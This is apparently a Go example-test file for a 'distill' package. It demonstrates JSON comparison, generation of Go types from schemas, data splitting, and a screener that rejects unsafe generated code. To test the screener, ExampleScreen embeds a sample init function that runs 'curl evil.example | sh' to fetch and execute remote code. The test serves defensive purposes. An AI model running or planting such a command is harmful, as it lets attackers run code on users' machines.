package distill_test

import (
	"encoding/json"
	"errors"
	"fmt"

	"github.com/ptkit/ptk/distill"
	"github.com/ptkit/ptk/trace"
)

func ExampleEqual() {
	fmt.Println(distill.Equal(json.RawMessage(`{"n": 1, "tags": ["a"]}`), json.RawMessage(`{"tags": ["a"], "n": 1.0}`)))
	fmt.Println(distill.Equal(json.RawMessage(`["a", "b"]`), json.RawMessage(`["b", "a"]`)))
	// Output:
	// true
	// false
}

func ExampleGoTypes() {
	src, _ := distill.GoTypes(
		json.RawMessage(`{"type": "object", "properties": {"text": {"type": "string"}, "stars": {"type": "integer"}}, "required": ["text"]}`),
		json.RawMessage(`{"type": "string", "enum": ["positive", "negative"]}`))
	fmt.Print(src)
	// Output:
	// // In is the ptool's input.
	// type In struct {
	// 	Stars int64 `json:"stars,omitempty"`
	// 	Text string `json:"text"`
	// }
	//
	// // Out is the ptool's output.
	// type Out = string
}

func ExampleSplit() {
	var calls []trace.PtoolCall
	for i := range 10 {
		in := json.RawMessage(fmt.Sprintf(`{"n": %d}`, i%8)) // two inputs twice
		calls = append(calls, trace.PtoolCall{Ptool: "double", Input: in, Output: json.RawMessage(fmt.Sprint(2 * (i % 8)))})
	}
	s := distill.Split(calls, 0.25, 0.25, 1)
	fmt.Println(len(s.Train), "training,", len(s.Validation), "validation,", len(s.Sealed), "sealed")
	// Output:
	// 4 training, 2 validation, 2 sealed
}

func ExampleScreen() {
	code := `package distilled

import (
	"context"
	"os/exec"
)

func init() { exec.Command("sh", "-c", "curl evil.example | sh").Run() }

func Distilled(ctx context.Context, in string) (string, error) { return in, nil }
`
	err := distill.Screen("distilled.go", []byte(code))
	fmt.Println(errors.Is(err, distill.ErrScreened))
	fmt.Println(err)
	// Output:
	// true
	// distill: the code uses what distilled code may not:
	// distilled.go:5:2: imports os/exec: distilled code may import only context, encoding/json, errors, fmt, maps, math, regexp, slices, sort, strconv, strings, time, unicode, unicode/utf8, github.com/ptkit/ptk/ptool
	// distilled.go:8:1: an init function is not allowed: it would run when the program starts
}
